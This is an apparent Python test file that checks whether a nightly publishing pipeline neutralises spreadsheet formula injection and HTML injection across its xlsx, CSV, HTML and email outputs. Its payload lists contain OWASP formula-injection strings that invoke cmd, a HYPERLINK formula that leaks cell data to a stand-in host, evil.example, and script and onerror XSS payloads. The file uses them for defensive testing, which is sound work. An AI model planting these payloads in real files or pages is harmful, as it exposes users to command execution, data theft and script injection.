"""Issue 7.4: every renderer neutralises formula and HTML injection, end to end.

Payloads from the OWASP CSV-injection list and two HTML payloads are typed into the workbook (the names
of all eight touchpoints and an extra column's header). One real nightly run then checks, diffs,
publishes to a folder and mails through a real SMTP server; every file it wrote is inspected:
- no generated .xlsx holds a formula cell (text that starts with = + - @ stays a string);
- every cell of the published CSV files that starts with = + - @, TAB or CR is neutralised with «'»;
- no generated HTML page or mail carries a payload's markup unescaped;
- the SMTP password appears in no file, log or mail.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from perechen.config import Config
from perechen.nightly import run_nightly
from tests.servers.smtp import SMTPServer

PW_ENV = "PERECHEN_TEST_SMTP_PASSWORD"
OWASP = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")',
    "\t=1+1",
    "\r=1+1",
    "=1+1;=cmd|' /C calc'!A0",
]
HTML = ['<script>window.__pwned=1</script>', '<img src=x onerror="window.__pwned=1">']
NEEDLES = ["<script>window.__pwned", "<img src=x", 'onerror="window']


def _workbook(make_workbook: Any, good_rows: list[dict[str, Any]]) -> Path:
    for i, r in enumerate(good_rows):
        r["name"] = f"{OWASP[i]} {HTML[i % 2]} №{i}"
        r["changed_on"] = dt.date(2026, 11, 25)
    p = make_workbook(good_rows)
    wb = load_workbook(p)
    ws = wb["Перечень"]
    ws.cell(row=1, column=ws.max_column + 1, value=f"{HTML[0]} =1+1").data_type = "s"
    wb.save(p)
    return p


def test_no_renderer_lets_an_injection_through(tmp_path: Path, make_workbook: Any, good_rows: list[dict[str, Any]],
                                                smtp: SMTPServer, monkeypatch: Any) -> None:
    monkeypatch.setenv(PW_ENV, smtp.password)
    wb = _workbook(make_workbook, good_rows)
    out = tmp_path / "output"
    cfg = Config.model_validate({
        "workbook": str(wb), "output": str(out),
        "publish": {"auto": True, "target": "folder"},
        "targets": {"folder": {"type": "folder", "path": str(out / "site")}},
        "mail": {"enabled": True, "host": smtp.host, "port": smtp.port, "user": smtp.user, "password_env": PW_ENV,
                 "sender": "perechen@gtn.example.ru", "keeper": "keeper@gtn.example.ru", "timeout": 10},
    })
    cfg.base_dir = tmp_path
    res = run_nightly(cfg, today=dt.date(2026, 11, 30))
    assert res.exit_code == 0, res.lines  # type: ignore[attr-defined]

    files = [p for p in out.rglob("*") if p.is_file()]
    xlsx = [p for p in files if p.suffix == ".xlsx"]
    html = [p for p in files if p.suffix == ".html"]
    csvs = [p for p in files if p.suffix == ".csv" and p.name.startswith("data-")]
    assert len(xlsx) >= 3 and len(html) >= 4 and csvs  # annotated copy, diff, published table; pages

    for p in xlsx:
        book = load_workbook(p)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", f"{p.name}!{ws.title}!{c.coordinate}: a formula: {c.value!r}"
    published = load_workbook(next(p for p in xlsx if p.parent.name == "site"))
    names = {str(c.value) for ws in published.worksheets for row in ws.iter_rows() for c in row if c.value}
    assert any(n.startswith("=cmd|") for n in names), "the payload is kept, as text"

    for p in csvs:
        rows = list(csv.reader(io.StringIO(p.read_text("utf-8"), newline="")))
        seen = 0
        for row in rows[1:]:
            for value in row:
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), f"{p.name}: {value!r}"
                seen += value.startswith("'")
        assert seen >= len(OWASP), "every payload reaches the open data, neutralised"

    for p in html:
        text = p.read_text("utf-8")
        for needle in NEEDLES:
            assert needle not in text, f"{p.relative_to(out)} carries {needle!r} unescaped"
    site_pages = [p for p in html if p.parent.name == "site"]
    assert site_pages and any("&lt;script&gt;window.__pwned" in p.read_text("utf-8") for p in site_pages)

    assert smtp.messages, "the keeper's mail arrived"
    for m in smtp.messages:
        body = m.text + (m.html or "")
        for needle in NEEDLES:
            assert needle not in (m.html or ""), f"mail HTML carries {needle!r}"
        assert smtp.password not in body and smtp.password not in m.message.as_string()

    for p in files:
        assert smtp.password.encode() not in p.read_bytes(), f"the SMTP password is in {p.relative_to(out)}"
